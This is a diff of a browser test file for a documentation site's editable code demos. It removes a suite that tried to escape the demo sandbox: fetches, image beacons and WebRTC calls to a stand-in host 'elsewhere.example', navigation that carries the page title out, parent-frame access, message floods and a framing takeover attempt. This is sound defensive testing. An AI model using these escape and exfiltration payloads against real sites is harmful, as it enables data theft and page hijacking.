@@ -1,34 +1,14 @@
-// Editing demos in the page, in a frame that lets nothing out.
+// Editing demos in the page.
 import { existsSync, readdirSync, statSync } from 'node:fs';
 import { describe, expect, inject, test } from 'vitest';
 import { violations } from './axe';
-import { reader, styleOf, useBrowser, type Visit } from './browser';
-import { hangs, nativeHangs, program } from './hangs';
+import { reader, styleOf, useBrowser } from './browser';
+import { button as path, editing } from './editor';
+import { program } from './hangs';
 
 useBrowser();
 const site = inject('site');
-const button = `${site}/material-ui/react-button/`;
-
-async function editing(visit?: Visit) {
-  const { page, trouble } = visit ?? (await reader());
-  await page.goto(button);
-  await page.locator('#ButtonColors .code:visible pre').focus();
-  await page.keyboard.press('Enter');
-  const area = page.locator('#ButtonColors textarea:visible');
-  await area.waitFor();
-  return {
-    page,
-    trouble,
-    area,
-    frame: page.frameLocator('#ButtonColors iframe.sandbox'),
-    alert: page.locator('#ButtonColors .code-error'),
-  };
-}
-
-const effect = (code: string) =>
-  program(
-    `  const [said, setSaid] = React.useState('waiting');\n  React.useEffect(() => { (async () => { try { ${code} } catch (error) { setSaid('refused'); } })(); }, []);\n  return <p id="said">{said}</p>;`,
-  );
+const button = site + path;
 
 describe('editing', () => {
   test('the result follows typing; the last good one stays while there is an error at the code', async () => {
@@ -241,108 +221,6 @@ describe('editing', () => {
     expect(
       await frame.locator('html').evaluate((element) => [(element as HTMLElement).dir, element.dataset.mode]),
     ).toEqual(['rtl', 'dark']);
-  });
-});
-
-describe('nothing gets out', () => {
-  for (const [what, code] of [
-    ['cookies', 'document.cookie = "a=b"; setSaid("got " + document.cookie)'],
-    ['storage', 'localStorage.setItem("a", "b"); setSaid("got in")'],
-    ['the page around it', 'setSaid(parent.document.title)'],
-    ['the network', 'await fetch("https://elsewhere.example/"); setSaid("got out")'],
-    ['the own server', `await fetch("${site}/llms.txt"); setSaid("got out")`],
-    [
-      'a picture',
-      'await new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "https://elsewhere.example/a.png"; }); setSaid("got out")',
-    ],
-    [
-      'peer connections',
-      'const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:elsewhere.example" }] }); c.createDataChannel("a"); await c.setLocalDescription(await c.createOffer()); setSaid("got out")',
-    ],
-  ] as const) {
-    test(what, async () => {
-      const { page, area, frame } = await editing();
-      const asked: string[] = [];
-      await page
-        .context()
-        .route(/elsewhere|llms/, (route) => (asked.push(route.request().url()), route.fulfill({ body: 'got out' })));
-      await area.fill(effect(code));
-      await frame
-        .locator('#said')
-        .getByText(/refused|got/)
-        .waitFor();
-      const said = await frame.locator('#said').innerText();
-      expect(said).not.toMatch(/^got/);
-      expect(asked).toEqual([]);
-    });
-  }
-
-  test('navigation: neither of the page around it nor of the frame to elsewhere', async () => {
-    const { page, area, trouble } = await editing();
-    const asked: string[] = [];
-    await page
-      .context()
-      .route(/elsewhere/, (route) => (asked.push(route.request().url()), route.fulfill({ body: 'got out' })));
-    await area.fill(
-      effect(
-        'try { top.location.href = "https://elsewhere.example/top"; } catch {} location.href = "https://elsewhere.example/frame?" + document.title; await new Promise((r) => setTimeout(r, 500)); setSaid("stayed")',
-      ),
-    );
-    for (const refusal of ['Unsafe attempt to initiate navigation', "Framing 'https://elsewhere.example/' violates"]) {
-      await expect.poll(() => trouble.filter((line) => line.includes(refusal))).not.toEqual([]);
-    }
-    expect(page.url()).toContain('/material-ui/react-button/');
-    expect(asked).toEqual([]);
-  });
-
-  describe('code that does not let go is stopped; the page lives, and a reset is at hand', () => {
-    for (const [what, code] of [...hangs, ...nativeHangs]) {
-      test(what, async () => {
-        const { page, area, alert } = await editing();
-        await area.fill(program(`  ${code}\n  return null;`));
-        await alert.getByText('was stopped').waitFor();
-        await page.locator('#ButtonSizes [data-tool=code]').click();
-        await page.locator('#ButtonSizes .code').getByText('export default').first().waitFor();
-        await page.locator('#ButtonColors').getByRole('button', { name: 'Undo all edits' }).click();
-        await page.locator('#ButtonColors .demo:visible').waitFor();
-      });
-    }
-  });
-
-  test('messages without shape, without end or in a flood leave the page as it was', async () => {
-    const { page, area, frame, alert } = await editing();
-    const send = (code: string) =>
-      area.fill(program(`  React.useEffect(() => { ${code} }, []);\n  return <p>sent</p>;`));
-    await send(
-      "for (const odd of [null, 1, 'pong', [], { kind: 'closed' }, { kind: 'sized', height: NaN }]) parent.postMessage(odd, '*');",
-    );
-    await frame.getByText('sent').waitFor();
-    await send("setTimeout(() => parent.postMessage({ kind: 'failed', message: 'x'.repeat(64 << 20) }, '*'), 100);");
-    await alert.getByText('The demo reports: xxx').waitFor();
-    expect((await alert.innerText()).length).toBeLessThan(1100);
-    await send("for (let i = 0; i < 20000; i++) parent.postMessage({ kind: 'sized', height: i }, '*');");
-    await alert.getByText('too many messages').waitFor();
-    expect(await page.locator('iframe.sandbox').count()).toBe(0);
-  });
-
-  test('the frame runs nothing where it has an origin, whoever frames it', async () => {
-    const { page } = await reader();
-    await page.goto(`${site}/sandbox/`);
-    await page.getByText('Edited demos run here').waitFor();
-    await page.goto(`${site}/404.html`);
-    const ran = await page.evaluate(async () => {
-      const frame = document.createElement('iframe');
-      frame.src = '/sandbox/';
-      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
-      document.body.append(frame);
-      await loaded;
-      const file = ['a.js', 'parent.document.title = "taken over"'];
-      frame.contentWindow!.postMessage({ files: [file], entries: ['a.js'], id: 0 }, '*');
-      await new Promise((resolve) => setTimeout(resolve, 300));
-      return [frame.contentDocument!.body.innerText, document.title];
-    });
-    expect(ran[0]).toContain('Edited demos run here');
-    expect(ran[1]).not.toBe('taken over');
   });
 });
 
